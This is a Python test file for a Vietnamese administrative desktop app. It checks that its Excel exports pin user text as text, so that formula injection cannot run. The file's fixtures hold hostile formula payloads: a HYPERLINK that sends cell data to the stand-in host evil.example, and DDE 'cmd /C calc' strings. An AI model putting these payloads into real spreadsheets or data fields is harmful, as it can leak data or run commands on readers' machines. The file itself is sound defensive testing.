"""Exports cannot attack the reader: every workbook the program writes keeps user text as text.

OWASP, CSV Injection (https://owasp.org/www-community/attacks/CSV_Injection): text starting with
= + - @ TAB or CR runs as a formula in the reader's spreadsheet. The demo office is given hostile text in
every user-text column (names, addresses, phones, ID numbers, notes, procedure, field, unit, group and
indicator names, officers), then each export is written and opened with openpyxl (formulas kept, not
evaluated): no cell is a formula, each hostile text reads back exactly, pinned as text (quotePrefix).
The program writes no formula of its own in any export, so any formula cell is a failure.
"""

from __future__ import annotations

import re
import shutil
import sqlite3
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from onestop_desktop.bootstrap import Database, open_database
from onestop_desktop.cli import main
from onestop_desktop.db.engine import session_scope

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "＝1+1",  # full-width equals sign
    "=1+1\x00",  # NUL cannot be written to XML: it comes out as U+FFFD, still text
)
READ_BACK = {h.replace("\x00", "\ufffd") for h in HOSTILE}
# (table, column): every user-text column an export shows. Codes stay (lookups join on them), but the
# dossier codes too get a hostile prefix, which keeps them unique.
COLUMNS = [
    ("dossiers", "applicant_name"),
    ("dossiers", "address"),
    ("dossiers", "phone"),
    ("dossiers", "citizen_id"),
    ("dossiers", "late_reason"),
    ("dossiers", "holder_department"),
    ("procedures", "name"),
    ("procedure_versions", "result"),
    ("procedure_versions", "source"),
    ("procedure_version_documents", "name"),
    ("fields", "name"),
    ("units", "name"),
    ("users", "full_name"),
    ("bhyt_groups", "name"),
    ("indicator_defs", "name"),
]


def _hostile(i: int) -> str:
    return HOSTILE[i % len(HOSTILE)]


@pytest.fixture(scope="module")
def hostile_file(demo_db_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.sqlite3"
    shutil.copyfile(demo_db_file, path)
    con = sqlite3.connect(path)
    con.create_function("hostile", 1, _hostile)
    with con:
        for table, column in COLUMNS:
            con.execute(f"UPDATE {table} SET {column} = hostile(rowid)")  # noqa: S608 - names from above
        con.execute("UPDATE dossiers SET code = '=' || code WHERE id % 2 = 0")
    con.close()
    return path


@pytest.fixture
def hostile_db(hostile_file: Path, tmp_path: Path) -> Iterator[Database]:
    target = tmp_path / "hostile.sqlite3"
    shutil.copyfile(hostile_file, target)
    db = open_database(f"sqlite:///{target}")
    yield db
    db.engine.dispose()


def scan(path: Path) -> dict[str, set[str]]:
    """The hostile texts found, by column header ("sheet/header"); fails on any formula cell."""
    wb = load_workbook(path)  # not data_only: a formula would show as data_type "f"
    found: dict[str, set[str]] = {}
    for ws in wb.worksheets:
        headers: dict[int, str] = {}
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {ws.title}!{cell.coordinate}: {cell.value!r}"
                value = cell.value
                if (
                    isinstance(value, str)
                    and not headers.get(cell.column)
                    and not value.startswith(tuple("=+-@\t\r＝"))
                ):
                    headers[cell.column] = value  # the column's first plain text: its header
                if isinstance(value, str) and value.startswith(tuple("=+-@\t\r＝")):
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} {value!r} not pinned as text"
                    assert value in READ_BACK or re.fullmatch(r"=\d{3}\.\S+", value), value
                    key = f"{ws.title}/{headers.get(cell.column, cell.column_letter)}"
                    found.setdefault(key, set()).add(value)
    return found


def assert_hostile_in(found: dict[str, set[str]], *columns: str) -> None:
    """Each named column held hostile text, read back exactly as stored (proof the attack reached it)."""
    for column in columns:
        assert column in found, f"no hostile text reached {column}: {sorted(found)}"
    everything = set().union(*found.values())
    assert {HOSTILE[0], HOSTILE[1]} <= everything  # =HYPERLINK and the DDE payload, character for character


def test_the_tracking_list_keeps_hostile_text_as_text(hostile_db: Database, tmp_path: Path) -> None:
    from onestop_desktop.services.catalogue.catalogue import working_calendar
    from onestop_desktop.services.tracking.filters import Sort, Today, TrackingFilter
    from onestop_desktop.ui.tracking.export import export_list

    with session_scope(hostile_db.factory) as s:
        cal = working_calendar(s)
    path = tmp_path / "list.xlsx"
    n = export_list(
        lambda: session_scope(hostile_db.factory),
        TrackingFilter(quick="all", received_from=date(2018, 10, 1), received_to=date(2018, 10, 31)),
        Sort(),
        Today.at(datetime(2018, 10, 20, 9), cal),
        cal,
        path,
    )
    assert n > 100
    found = scan(path)
    assert_hostile_in(
        found,
        *(
            f"Hồ sơ/{h}"
            for h in (
                "Mã hồ sơ",
                "Tên tổ chức, cá nhân",
                "Tên thủ tục",
                "Lĩnh vực",
                "Đơn vị tiếp nhận",
                "Người đang xử lý",
                "Số CCCD",
                "Số điện thoại",
                "Địa chỉ",
            )
        ),
    )


def test_the_log_book_keeps_hostile_text_as_text(hostile_db: Database, tmp_path: Path) -> None:
    from onestop_desktop.ui.tracking.export import export_log_book_xlsx

    path = tmp_path / "log.xlsx"
    n = export_log_book_xlsx(
        lambda: session_scope(hostile_db.factory), date(2018, 10, 1), date(2018, 10, 31), path
    )
    assert n > 100
    found = scan(path)
    heads = ("Mã hồ sơ", "Tên thủ tục", "Tên tổ chức, cá nhân", "Địa chỉ", "Số điện thoại", "Ghi chú")
    assert_hostile_in(found, *(f"Sổ theo dõi/{h}" for h in heads))


def test_the_report_workbook_keeps_hostile_text_as_text(hostile_db: Database, tmp_path: Path) -> None:
    from onestop_desktop.domain.periods import parse_period
    from onestop_desktop.reports.export_xlsx import write_xlsx
    from onestop_desktop.services.reports.report_data import build_report

    with session_scope(hostile_db.factory) as s:
        data = build_report(s, parse_period("2018-10"))
    path = tmp_path / "report.xlsx"
    write_xlsx(data, path)
    found = scan(path)
    assert_hostile_in(
        found,
        "Theo lĩnh vực/Tên",
        "Theo thủ tục/Tên",
        "Theo đơn vị/Tên",
        "Theo cán bộ tiếp nhận/Tên",
        "Hồ sơ trễ hạn/Thủ tục",
        "Hồ sơ trễ hạn/Nguyên nhân",
        "Chỉ số CCHC/Chỉ số",
        "BHYT/Đơn vị",
    )


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_report_xlsx_from_the_command_line_keeps_hostile_text_as_text(
    hostile_db: Database, tmp_path: Path, lang: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "report.xlsx"
    database = hostile_db.url
    hostile_db.engine.dispose()
    code = main(
        ["--lang", lang, "report", "--period", "2018-10", "--xlsx", str(path), "--database", database]
    )
    assert code == 0, capsys.readouterr().err
    assert_hostile_in(scan(path), "Theo thủ tục/Tên", "Hồ sơ trễ hạn/Nguyên nhân")


@pytest.mark.parametrize(
    "argv",
    [
        ["export", "dossiers", "{out}.xlsx", "--period", "2018-10"],
        ["export", "logbook", "{out}.xlsx", "--period", "2018-10"],
    ],
    ids=["dossiers", "logbook"],
)
def test_the_export_commands_keep_hostile_text_as_text(
    hostile_db: Database, tmp_path: Path, argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    database = hostile_db.url
    hostile_db.engine.dispose()
    words = [w.format(out=tmp_path / "out") for w in argv]
    assert main([*words, "--database", database]) == 0, capsys.readouterr().err
    found = scan(tmp_path / "out.xlsx")
    assert_hostile_in(found, *(k for k in found if k.endswith(("Địa chỉ", "Tên thủ tục"))))
    assert any(k.endswith("Địa chỉ") for k in found)


def test_the_bhyt_month_keeps_hostile_text_as_text(hostile_db: Database, tmp_path: Path) -> None:
    from onestop_desktop.services.bhyt import coverage, tallies
    from onestop_desktop.ui.bhyt.export import export_month

    with session_scope(hostile_db.factory) as s:
        month = coverage.available_months(s)[-1]
        m = coverage.month_coverage(s, month)
        groups = tallies.list_groups(s, m.cutoff or m.month)
    assert m.units and groups
    path = export_month(tmp_path / "bhyt.xlsx", m, groups)
    found = scan(path)
    sheet = load_workbook(path).worksheets[0].title
    assert_hostile_in(found, f"{sheet}/Tên đơn vị")
    header_row = [c.value for c in load_workbook(path).worksheets[0][3]]
    assert set(header_row) & READ_BACK, header_row  # the group names, in the header row, as text
    assert str(load_workbook(path).worksheets[0]["A1"].value).startswith("TÌNH HÌNH THAM GIA")


def test_the_catalogue_workbook_keeps_hostile_text_as_text(hostile_db: Database, tmp_path: Path) -> None:
    from onestop_desktop.services.catalogue.excel import export_catalogue

    path = tmp_path / "catalogue.xlsx"
    with session_scope(hostile_db.factory) as s:
        assert export_catalogue(s, path, on=date(2018, 10, 15)) > 10
    found = scan(path)
    assert_hostile_in(
        found,
        "Lĩnh vực/Tên lĩnh vực",
        "Thủ tục/Tên thủ tục",
        "Thủ tục/Kết quả",
        "Thủ tục/Căn cứ",
        "Giấy tờ/Tên giấy tờ",
    )
